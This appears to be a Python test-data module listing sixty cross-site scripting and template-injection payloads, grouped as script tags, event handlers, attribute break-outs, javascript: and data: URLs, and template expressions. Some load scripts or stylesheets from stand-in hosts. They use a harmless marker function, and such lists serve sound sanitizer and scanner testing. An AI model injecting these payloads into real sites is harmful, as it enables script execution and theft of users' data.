"""Sixty texts that would run, break out or be filled in on a page that trusted what people type."""

MARK = "pwned"
SUM = "7331"  # what a page says that works out 7 * 1047.2857…: here, 7330 + 1

SCRIPTS = [
    "<script>pwned()</script>",
    "<ScRiPt>pwned()</sCrIpT>",
    "<script src=//x.example/pwned></script>",
    "</title><script>pwned()</script>",
    "</textarea><script>pwned()</script>",
    "</script><script>pwned()</script>",
    "<script>pwned()",
    "<<script>pwned()//<</script>",
    "<script\x0c>pwned()</script>",
    "<script/x>pwned()</script>",
]
HANDLERS = [
    "<img src=x onerror=pwned()>",
    '"><img src=x onerror=pwned()>',
    "'><img src=x onerror=pwned()>",
    "<img src=x onerror=pwned()//",
    "<svg onload=pwned()>",
    "<svg/onload=pwned()>",
    "<svg><animate onbegin=pwned() attributeName=x>",
    "<body onload=pwned()>",
    "<details open ontoggle=pwned()>",
    "<input autofocus onfocus=pwned()>",
    "<select autofocus onfocus=pwned()>",
    "<video><source onerror=pwned()>",
    "<audio src=x onerror=pwned()>",
    "<marquee onstart=pwned()>",
    "<a onclick=pwned()>x</a>",
    "<math><mi onclick=pwned()>x",
]
BREAKING_OUT = [
    '" onmouseover=pwned() x="',
    "' onmouseover=pwned() x='",
    '" autofocus onfocus=pwned() "',
    "x onclick=pwned()",
    '"/><b onclick=pwned()>',
    "`onclick=pwned()`",
    '\\" onclick=pwned() \\"',
    "&quot; onclick=pwned() &quot;",
    "&#34; onclick=pwned() &#34;",
    "%22%20onclick=pwned()",
    "\u201d onclick=pwned()",
    "-->\x3cimg src=x onerror=pwned()>",
    "]]><img src=x onerror=pwned()>",
    "</style><img src=x onerror=pwned()>",
]
ADDRESSES = [
    "javascript:pwned()",
    "JaVaScRiPt:pwned()",
    "java\tscript:pwned()",
    "javascript&colon;pwned()",
    "data:text/html,<script>pwned()</script>",
    "<a href=javascript:pwned()>x</a>",
    "<iframe src=javascript:pwned()>",
    "<iframe srcdoc='<script>pwned()</script>'>",
    "<form action=javascript:pwned()><button>x",
    "<object data=javascript:pwned()>",
    "<base href=//pwned.example/>",
    "<meta http-equiv=refresh content='0;pwned'>",
    "<link rel=stylesheet href=//pwned.example>",
]
FILLED_IN = [
    "{{ 7330 + 1 }}",
    "{% print(7330 + 1) %}",
    "${7330 + 1}",
    "#{7330 + 1}",
    "<%= 7330 + 1 %>",
    "%(pwned)s %s",
    "{pwned} {0}",
]
PAYLOADS = SCRIPTS + HANDLERS + BREAKING_OUT + ADDRESSES + FILLED_IN
